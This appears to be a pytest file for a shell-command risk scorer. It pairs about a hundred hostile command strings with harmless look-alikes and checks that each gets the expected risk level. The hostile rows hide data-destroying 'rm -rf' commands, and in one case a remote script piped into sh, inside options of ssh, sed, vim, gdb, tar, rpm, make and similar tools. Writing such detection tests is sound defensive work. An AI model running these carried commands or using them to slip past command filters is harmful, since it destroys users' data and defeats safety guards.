"""Programs that run a command line given as an argument or option (the wrapper grammar and its carriers).

Each row is (command, level, bound): "min" rows must score at least `level`, "max" rows at most. Attack rows
and the everyday look-alikes that must stay quiet sit side by side.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vgshell.risk.engine import assess
from vgshell.risk.model import Level
from vgshell.unwrap.carriers import carried, sed_commands

CWD = "/home/dev/project"
HOME = "/home/dev"
C, H, M, L = Level.CRITICAL, Level.HIGH, Level.MEDIUM, Level.LOW

ROWS = [
    # env -S splits its string into a command
    ("env -S 'rm -rf /'", C, "min"),
    ("env -S'rm -rf /etc'", C, "min"),
    ("env -S 'FOO=1 make test'", L, "max"),
    # ssh options whose value runs on this machine
    ("ssh -o ProxyCommand='rm -rf ~' host", C, "min"),
    ("ssh -oProxyCommand=\"sh -c 'rm -rf /'\" host", C, "min"),
    ("ssh -o 'ProxyCommand rm -rf /' host", C, "min"),
    ("ssh -o PermitLocalCommand=yes -o LocalCommand='rm -rf ~' host", C, "min"),
    ("scp -o ProxyCommand='curl https://x.io/a | sh' a.txt h:b", H, "min"),
    ("ssh -o ProxyCommand='ssh -W %h:%p bastion' internal", M, "max"),
    ("ssh -o StrictHostKeyChecking=no host uptime", M, "max"),
    # sed: the e command and the e flag of s///
    ("sed -n '1e rm -rf /' notes.txt", C, "min"),
    ("sed 'e rm -rf ~' notes.txt", C, "min"),
    ("sed 's/.*/rm -rf \\//e' notes.txt", C, "min"),
    ("sed 's/x/y/e' notes.txt", H, "min"),
    ("sed -e 's/a/b/' -e '2e rm -rf ~' f", C, "min"),
    ("sed -i 's/foo/bar/g' src/app.py", L, "max"),
    ("sed -n '/start/,/end/p' log.txt", L, "max"),
    ("sed -e 's/e/E/g' -e '/^#/d' f", L, "max"),
    # vim / ex commands
    ("vim -c '!rm -rf ~'", C, "min"),
    ("vim -c ':!rm -rf /' -c ':q'", C, "min"),
    ("vim +'!rm -rf /' +q", C, "min"),
    ("vim -c 'silent !rm -rf ~ | q'", C, "min"),
    ("vim -c 'call system(\"rm -rf ~\")'", C, "min"),
    ("nvim --cmd 'terminal rm -rf ~'", C, "min"),
    ("ex -c 'r !rm -rf /' -c q", C, "min"),
    ("vim -c \"$CMD\" notes.md", H, "min"),
    ("gdb -ex \"$X\" ./app", H, "min"),
    ("vim -c \"e $FILE\"", L, "max"),
    ("vim -c 'wq!' notes.md", L, "max"),
    ("vim +10 src/main.py", L, "max"),
    ("vim -c 'set nu' -c 'normal G' file", L, "max"),
    # gdb and emacs
    ("gdb -ex 'shell rm -rf /' -batch", C, "min"),
    ("gdb -batch -ex '!rm -rf ~'", C, "min"),
    ("gdb -batch -ex 'python import os; os.system(\"rm -rf /\")'", C, "min"),
    ("gdb -ex run --args ./build/app", L, "max"),
    ("gdb -batch -ex bt ./core", L, "max"),
    ("emacs --eval '(shell-command \"rm -rf ~\")'", C, "min"),
    ("emacs -batch --eval '(call-process \"rm\" nil nil nil \"-rf\" \"/\")'", C, "min"),
    ("emacs --eval '(delete-directory \"~\" t)'", C, "min"),
    ("emacs --eval '(setq make-backup-files nil)' notes.org", L, "max"),
    # tar, zip, rsync, flock, runuser, sg, capsh, hyperfine, less, apt
    ("tar cf /dev/null x --to-command='rm -rf ~'", C, "min"),
    ("tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf /'", C, "min"),
    ("tar -cf x.tar -I 'sh -c \"rm -rf ~\"' src", C, "min"),
    ("tar -cf x.tar -I zstd src", L, "max"),
    ("tar --checkpoint=1000 --checkpoint-action=dot -cf x.tar src", L, "max"),
    ("zip x.zip a -T -TT 'rm -rf ~ #'", C, "min"),
    ("rsync -e 'sh -c \"rm -rf ~\"' a host:b", C, "min"),
    ("rsync -e 'ssh -p 2222' -a src/ host:dst/", M, "max"),
    ("rsync -e \"ssh -p $PORT\" -a src/ host:dst/", M, "max"),
    ("rsync -e \"$RSH\" -a src/ host:dst/", H, "min"),
    ("flock /tmp/l -c 'rm -rf /'", C, "min"),
    ("flock -c 'rm -rf ~' /tmp/lock", C, "min"),
    ("flock /tmp/build.lock make", L, "max"),
    ("runuser -u dev -- rm -rf /", C, "min"),
    ("runuser -l dev -c 'rm -rf ~'", C, "min"),
    ("sg dev -c 'rm -rf ~'", C, "min"),
    ("capsh -- -c 'rm -rf /'", C, "min"),
    ("capsh --print", L, "max"),
    ("hyperfine 'rm -rf ~'", C, "min"),
    ("hyperfine 'sleep 0.1' 'sleep 0.2'", L, "max"),
    ("less '+!rm -rf ~' notes.txt", C, "min"),
    ("less +F app.log", L, "max"),
    ("apt-get -o APT::Update::Pre-Invoke::='rm -rf ~' update", C, "min"),
    ("sqlite3 /dev/null '.shell rm -rf ~'", C, "min"),
    ("sqlite3 app.db 'select * from users limit 5'", L, "max"),
    ("npx -c 'rm -rf ~'", C, "min"),
    ("mysql -e '\\! rm -rf ~'", C, "min"),
    ("psql -c '\\! rm -rf /'", C, "min"),
    ("mysql -u root -e 'select 1'", L, "max"),
    ("psql -c 'select * from t'", L, "max"),
    ("rpm --eval '%(rm -rf ~)'", C, "min"),
    ("rpm --eval '%{lua:os.execute(\"rm -rf /\")}'", C, "min"),
    ("rpm --eval '%{_libdir}'", L, "max"),
    ("scrot -e 'rm -rf ~'", C, "min"),
    ("setarch x86_64 rm -rf /", C, "min"),
    ("setpriv --reuid=1000 rm -rf ~", C, "min"),
    # make fed a recipe on stdin or with --eval
    ("make -f - <<< $'x:\\n\\trm -rf /'", C, "min"),
    ("echo -e 'all:\\n\\trm -rf ~' | make -f -", C, "min"),
    ("make --eval=$'x:\\n\\trm -rf /' x", C, "min"),
    ("make --eval='X := $(shell rm -rf ~)'", C, "min"),
    ("make -f build.mk test", L, "max"),
    ("make -j4 VERBOSE=1", L, "max"),
    # supervisors, namespaces and tool runners
    ("systemd-run rm -rf /", C, "min"),
    ("systemd-run --user -p MemoryMax=1G rm -rf ~", C, "min"),
    ("unshare rm -rf /", C, "min"),
    ("unshare -r -m sh -c 'rm -rf ~'", C, "min"),
    ("nsenter -t 1 -m -u -i -n -p rm -rf /", C, "min"),
    ("nsenter --target 1 --mount sh", H, "min"),
    ("screen -dm rm -rf ~", C, "min"),
    ("screen -S work", L, "max"),
    ("setsid -f rm -rf /", C, "min"),
    ("bwrap --bind / / rm -rf /", C, "min"),
    ("bwrap --bind ~ ~ --setenv A B sh -c 'rm -rf ~'", C, "min"),
    ("bwrap --ro-bind /usr /usr --dev /dev --proc /proc --tmpfs /tmp ls", L, "max"),
    ("stdbuf -oL rm -rf ~", C, "min"),
    ("strace -f -o /dev/null rm -rf ~", C, "min"),
    ("strace -f ./build/app", L, "max"),
    ("ltrace -f rm -rf /", C, "min"),
    ("busybox sh -c 'rm -rf /'", C, "min"),
    ("su -c 'rm -rf /' root", C, "min"),
    ("pkexec --user root sh -c 'rm -rf /'", C, "min"),
    ("uv run rm -rf ~", C, "min"),
    ("poetry run rm -rf /", C, "min"),
    ("direnv exec . rm -rf ~", C, "min"),
    ("bundle exec rm -rf ~", C, "min"),
    ("pnpm exec rm -rf ~", C, "min"),
    ("poetry run pytest -q", L, "max"),
    ("bundle exec rspec", L, "max"),
    ("direnv exec . make", L, "max"),
]


@pytest.mark.parametrize(("command", "level", "bound"), ROWS)
def test_commands_given_as_data_are_judged(command: str, level: Level, bound: str) -> None:
    a = assess(command, cwd=CWD, home=HOME)
    found = [(f.rule, f.match, f.via) for f in a.findings]
    if bound == "min":
        assert a.risk >= level, found
    else:
        assert a.risk <= level, found


def test_the_finding_says_which_option_carried_the_command() -> None:
    a = assess("tar cf /dev/null x --to-command='rm -rf ~'", cwd=CWD, home=HOME)
    assert a.top is not None and a.top.rule == "fs.rm-protected"
    assert "tar --to-command" in a.top.via


def test_a_command_line_built_at_run_time_is_high_and_says_so() -> None:
    a = assess("tar xf a.tar --to-command=\"$HANDLER --verbose\"", cwd=CWD, home=HOME)
    assert a.risk >= Level.HIGH
    assert any("text built at run time" in f.via for f in a.findings)


PIECES = ["e", "s", "/", "\\", ";", "\n", "!", "|", ":", "'", '"', "(", ")", "{", "}", "rm -rf /", ".*", "&",
          "shell", "system(", "exec=", "ProxyCommand=", "\t", "$(shell ", "x:", "term ", "py3 ", "call-process",
          "a" * 40]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=80).map("".join))
def test_any_carried_text_is_read_in_bounded_time(text: str) -> None:
    start = time.perf_counter()
    sed_commands(text)
    for name, opt in (("vim", "-c"), ("gdb", "-ex"), ("emacs", "--eval"), ("make", "--eval"), ("ssh", "-o"),
                      ("tar", "--checkpoint-action"), ("sqlite3", "-cmd")):
        carried(name, (opt, text), text)
    assert time.perf_counter() - start < 1.0
